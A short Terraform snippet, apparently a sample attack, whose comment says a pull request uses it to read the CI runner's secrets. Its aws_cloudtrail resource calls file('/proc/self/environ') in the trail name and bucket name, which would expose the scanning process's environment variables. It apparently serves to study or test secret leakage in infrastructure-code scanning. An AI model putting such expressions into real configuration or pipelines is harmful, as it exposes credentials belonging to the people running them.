# A pull request's Terraform that reads the environment of the process
# that scans it: the CI runner's secrets.
resource "aws_cloudtrail" "trail" {
  name                  = "trail-${file("/proc/self/environ")}"
  s3_bucket_name        = file("/proc/self/environ")
  is_multi_region_trail = true
}
